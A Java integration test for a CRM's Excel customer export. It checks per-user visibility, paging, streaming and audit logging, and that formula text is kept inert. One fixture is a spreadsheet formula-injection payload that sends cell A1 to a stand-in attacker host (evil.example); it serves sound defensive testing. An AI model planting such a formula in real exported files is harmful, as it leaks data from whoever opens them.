package com.lead2cash.customer;

import static org.assertj.core.api.Assertions.assertThat;

import com.lead2cash.customer.internal.CustomerQueries;
import com.lead2cash.customer.internal.io.CustomerExport;
import com.lead2cash.platform.internal.identity.User;
import com.lead2cash.testing.CustomerTestSupport;
import com.lead2cash.testing.IntegrationTest;
import com.lead2cash.testing.SignedIn;
import com.lead2cash.testing.SpreadsheetCells;
import com.lead2cash.testing.TestClock;
import jakarta.servlet.http.Cookie;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

/**
 * The customer list exported to Excel (客户导出): exactly the customers the reader may see (a rep their
 * own, a manager their team, never another team's), every page of the list and not only the first, text
 * a spreadsheet would run as a formula neutralised as every export does (platform SpreadsheetText), and
 * the file streamed: written out page by page while the list is still being read, never built in memory.
 */
@IntegrationTest
@Import(TestClock.class)
class CustomerExportTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")";

    @Autowired MockMvcTester mvc;
    @Autowired CustomerTestSupport support;
    @Autowired CustomerExport export;
    @Autowired JdbcClient jdbc;

    @Test
    void anExportHoldsExactlyTheCustomersTheReaderSeesWithFormulasNeutralised() throws Exception {
        var company = support.company("export");
        String east = support.bearer(mvc, company.eastRep());
        String east2 = support.bearer(mvc, company.eastRep2());
        support.customer(mvc, east, FORMULA.replace("\"", "\\\""), null);
        support.customer(mvc, east, "@SUM(1+1)", null);
        for (int i = 0; i < 118; i++) {
            support.customer(mvc, east, "东区导出客户" + i + "有限公司", null);
        }
        for (int i = 0; i < 100; i++) {
            support.customer(mvc, east2, "东区二组客户" + i + "有限公司", null);
        }
        support.customer(mvc, support.bearer(mvc, company.westRep()), "西区导出客户有限公司", null);

        byte[] repFile = export(company.eastRep());
        List<List<String>> rep = rows(repFile);
        assertThat(rep).hasSize(1 + 120);
        assertThat(column(rep, 1)).contains(FORMULA, "@SUM(1+1)", "东区导出客户117有限公司")
                .doesNotContain("'" + FORMULA, "东区二组客户0有限公司", "西区导出客户有限公司");
        for (String typed : List.of(FORMULA, "@SUM(1+1)")) {
            SpreadsheetCells.assertKeptAsText(repFile, SpreadsheetCells.rows(repFile).stream()
                    .filter(r -> typed.equals(r.getCellText(1))).findFirst().orElseThrow().getCell(1), typed);
        }

        List<List<String>> manager = rows(export(company.eastManager()));
        assertThat(manager).as("the team's 220 customers: more than one page of the list (200)").hasSize(1 + 220);
        assertThat(column(manager, 1)).contains(FORMULA, "东区二组客户99有限公司", "东区导出客户0有限公司")
                .doesNotContain("西区导出客户有限公司");
        assertThat(manager.get(0).get(1)).as("headers in the reader's language").isEqualTo("客户名称");

        List<List<String>> west = rows(export(company.westRep()));
        assertThat(column(west, 1)).containsExactly("西区导出客户有限公司");

        assertThat(jdbc.sql("select detail from platform_audit_event where action = 'EXPORT' and actor_name = :u")
                .param("u", company.eastManager().username()).query(String.class).single())
                .as("a message key and its arguments, which the audit screen says in its reader's language")
                .isEqualTo(String.join("\n", "customer.audit.exported", "220", "customer.view.all",
                        "customer.filter.anyGrade", "customer.filter.anyStatus", "customer.filter.anyBucket",
                        "audit.detail.noSearch"));
        assertThat(mvc.get().uri("/customers/export.xlsx?view=mine&grade=A&status=PROSPECT&bucket=NEW&q=西区")
                .cookie(support.session(mvc, company.eastRep2()))).hasStatusOk();
        assertThat(jdbc.sql("select detail from platform_audit_event where action = 'EXPORT' and actor_name = :u")
                .param("u", company.eastRep2().username()).query(String.class).single())
                .matches("customer\\.audit\\.exported\n\\d+\ncustomer\\.view\\.mine\nA\n"
                        + "customer\\.status\\.PROSPECT\ncustomer\\.bucket\\.NEW\n西区");
    }

    @Test
    void theWorkbookGoesOutWhileTheListIsStillBeingRead() throws Exception {
        var company = support.company("exportstream");
        String east = support.bearer(mvc, company.eastRep());
        String east2 = support.bearer(mvc, company.eastRep2());
        for (int i = 0; i < 150; i++) {
            support.customer(mvc, east, "流式导出客户" + i + "有限公司", null);
            support.customer(mvc, east2, "流式导出二组" + i + "有限公司", null);
        }
        // the last row of the list (oldest first created): renamed the moment the first bytes reach the client
        UUID last = jdbc.sql("select id from customer_customer where owner_id in (:owners) order by created_at, id limit 1")
                .param("owners", List.of(company.eastRep().id(), company.eastRep2().id())).query(UUID.class).single();
        String before = jdbc.sql("select name from customer_customer where id = :id").param("id", last).query(String.class).single();
        ByteArrayOutputStream out = new ByteArrayOutputStream() {
            private boolean renamed;

            @Override
            public synchronized void write(byte[] b, int off, int len) {
                if (!renamed) {
                    renamed = true;
                    jdbc.sql("update customer_customer set name = '导出途中改名有限公司' where id = :id").param("id", last).update();
                }
                super.write(b, off, len);
            }
        };
        int written = SignedIn.as(company.eastManager(), () -> export.write(new CustomerQueries.CustomerFilter(null, null, null, null,
                null, null, null, null), Locale.SIMPLIFIED_CHINESE, out));

        assertThat(written).isEqualTo(300);
        List<String> names = column(rows(out.toByteArray()), 1);
        assertThat(names).as("the last page was read after the first bytes had gone out: the file is not built in memory first")
                .contains("导出途中改名有限公司").doesNotContain(before).hasSize(300);
    }

    private byte[] export(User user) {
        Cookie session = support.session(mvc, user);
        var result = mvc.get().uri("/customers/export.xlsx?lang=zh-CN").cookie(session).exchange();
        assertThat(result).hasStatusOk();
        assertThat(result.getResponse().getContentType()).startsWith("application/vnd.openxmlformats-officedocument");
        return result.getResponse().getContentAsByteArray();
    }

    private static List<List<String>> rows(byte[] xlsx) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row r : wb.getFirstSheet().read()) {
                List<String> cells = new ArrayList<>();
                r.forEach(c -> cells.add(c == null ? null : c.getText()));
                rows.add(cells);
            }
        }
        return rows;
    }

    private static List<String> column(List<List<String>> rows, int column) {
        return rows.subList(1, rows.size()).stream().map(r -> r.get(column)).toList();
    }
}
